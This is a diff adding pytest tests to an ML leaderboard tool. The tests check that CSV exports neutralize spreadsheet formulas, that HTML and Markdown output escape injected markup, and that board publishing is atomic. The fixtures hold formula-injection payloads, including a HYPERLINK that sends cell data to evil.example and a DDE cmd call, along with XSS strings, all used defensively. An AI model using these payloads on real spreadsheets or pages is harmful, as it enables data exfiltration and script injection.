@@ -396,3 +396,108 @@ def test_rl_frontier_sweep_composes_and_sweeps_the_kl_coefficient():
     cfg = compose_config(["+experiment=frontier_rl", f"algo={params['algo'].split(',')[0]}"])
     assert cfg.budget.name == "standard" and "kl_coef" in cfg.algo
     assert len(params["algo.kl_coef"].split(",")) >= 3
+
+
+# -- safe exports: CSV cells, escaping of every field -------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
+            "\r=1+1"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _number_literal(cell):
+    try:
+        return np.isfinite(float(cell))
+    except ValueError:
+        return False
+
+
+def test_runs_csv_holds_no_formula_from_record_content(tmp_path, monkeypatch):
+    """A formula in any string of a record (and in metric names, config keys and values, the job folder's name)
+    reaches runs.csv as text: every such cell starts with the spreadsheets' text marker; numbers stay numbers."""
+    recs = []
+    for i, f in enumerate(FORMULAS):
+        failed = i == len(FORMULAS) - 1
+        rec = record(f"{f}-run", algo=f, seed=i, gold=-0.057 * (i + 1), status="failed" if failed else "ok",
+                     error={"type": f, "message": f} if failed else None, task=f, model=f, budget=f, reward=f,
+                     git_sha=f, started_at=f, job_dir=f, notes=[f], group=f)
+        rec["overrides"] = [f, f"algo={f}"]
+        rec["config"][f] = {f: f}
+        rec["metrics"][f] = 1.0 * i
+        rec["metrics"]["status"] = 2.0  # a metric named like a column gets its own
+        recs.append(rec)
+    monkeypatch.chdir(tmp_path)  # the source column is then "=cmd/0000": a folder name is record content too
+    build_board([write_records(tmp_path / "=cmd", recs)], tmp_path / "board", figures=False)
+    with open(tmp_path / "board" / "runs.csv", newline="") as f:
+        header, *rows = list(csv.reader(f))
+    cells = header + [c for row in rows for c in row]
+    assert len(rows) == len(FORMULAS)
+    assert [c for c in cells if c.startswith(TRIGGERS) and not _number_literal(c)] == []
+    assert {"'" + f for f in FORMULAS} <= set(header) and "metric:status" in header
+    by_name = [dict(zip(header, row)) for row in rows]
+    for row, f in zip(sorted(by_name, key=lambda r: r["seed"]), FORMULAS):
+        for column in ("run_id", "algo", "task", "model", "budget", "reward", "git_sha", "started_at"):
+            assert row[column] == "'" + (f + "-run" if column == "run_id" else f), column
+        assert row["preset"].startswith("'" + f) and row["source"].startswith("'=cmd") and row["status"] != "2.0"
+    failed = next(r for r in by_name if r["status"] == "failed")
+    assert (failed["error_type"], failed["error_message"]) == ("'" + FORMULAS[-1], "'=1+1")  # on one line
+    golds = sorted(float(r["eval/gold_reward"]) for r in by_name if r["eval/gold_reward"])
+    assert golds == pytest.approx([-0.057 * i for i in range(5, 0, -1)])  # negative numbers, as numbers
+
+
+def test_csv_cells_are_neutral_and_numbers_stay_numbers():
+    from alignzoo.board.csvsafe import neutral_cell, write_csv
+
+    cases = {"=1+1": "'=1+1", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\0x": "'\0x",
+             "a=1": "a=1", "'=1": "'=1", "": "", None: "", -0.057: -0.057, 3: 3, float("nan"): "nan",
+             float("-inf"): "'-inf", True: "True", "-1": "'-1"}
+    for value, cell in cases.items():
+        assert neutral_cell(value) == cell, value
+    tsv = write_csv(["=h", "n"], [["-x", -1.5], [None, 2]], delimiter="\t")
+    assert tsv == "\"'=h\"\t\"n\"\n\"'-x\"\t-1.5\n\"\"\t2\n"
+
+
+def test_every_csv_writer_goes_through_the_neutralizing_helper():
+    root = Path(__file__).parents[1] / "alignzoo"
+    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|delimiter=\"\\t\"")
+    found = [str(p.relative_to(root)) for p in root.rglob("*.py") if writers.search(p.read_text())]
+    assert found == ["board/csvsafe.py"], f"write CSV/TSV with alignzoo.board.csvsafe.write_csv: {found}"
+
+
+def test_config_keys_and_values_and_warnings_are_escaped(tmp_path):
+    """Config keys and values reach the labels of the tables, a run folder's name reaches the warnings."""
+    recs = [record("k0", seed=0), record("k1", seed=0, beta=0.3)]
+    recs[0]["config"]["algo"]["<img src=x onerror=alert(4)>"] = "`|*_[x](javascript:alert(5))"
+    runs = write_records(tmp_path / "runs", recs)
+    bad = runs / "<svg onload=alert(6)>" / "record.json"
+    bad.parent.mkdir()
+    bad.write_text("{")
+    board = build_board([runs], tmp_path / "board")
+    assert any("alert(6)" in w and "is not valid JSON" in w for w in board.warnings)
+    html = (board.out / "index.html").read_text()
+    assert "<img src=x" not in html and "<svg onload" not in html
+    assert "&lt;img src=x onerror=alert(4)&gt;" in html and "&lt;svg onload=alert(6)&gt;" in html
+    md = (board.out / "LEADERBOARD.md").read_text()
+    markdown_it = pytest.importorskip("markdown_it")
+    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)
+    assert "<a " not in rendered and re.findall(r"<img [^>]*>", rendered) == [
+        '<img src="frontier.png" alt="gold reward vs KL" />']
+    assert "&lt;img src=x onerror=alert(4)&gt;=" in rendered
+    header = next(line for line in md.splitlines() if line.startswith("| Rank"))
+    rows = [line for line in md.splitlines() if line.startswith("| ") and "img" in line]
+    assert rows and all(len(re.findall(r"(?<!\\)\|", r)) == len(re.findall(r"\|", header)) for r in rows)
+
+
+def test_fresh_board_appears_in_one_rename_with_its_manifest(tmp_path):
+    import hashlib
+
+    from alignzoo.board.publish import MANIFEST
+
+    out = tmp_path / "a" / "b" / "board"
+    build_board([write_records(tmp_path / "runs", [record("r0"), record("r1", seed=1)])], out)
+    files = json.loads((out / MANIFEST).read_text())["files"]
+    on_disk = sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and p.name != MANIFEST)
+    assert sorted(files) == on_disk and len(on_disk) == 11  # 4 pages, 6 figures, 1 config
+    assert all(hashlib.sha256((out / n).read_bytes()).hexdigest() == sha for n, sha in files.items())
+    assert oct(out.stat().st_mode & 0o777) == "0o755" and oct((out / "runs.csv").stat().st_mode & 0o777) == "0o644"
+    assert sorted(p.name for p in out.parent.iterdir()) == ["board"]  # no staging folder left beside it
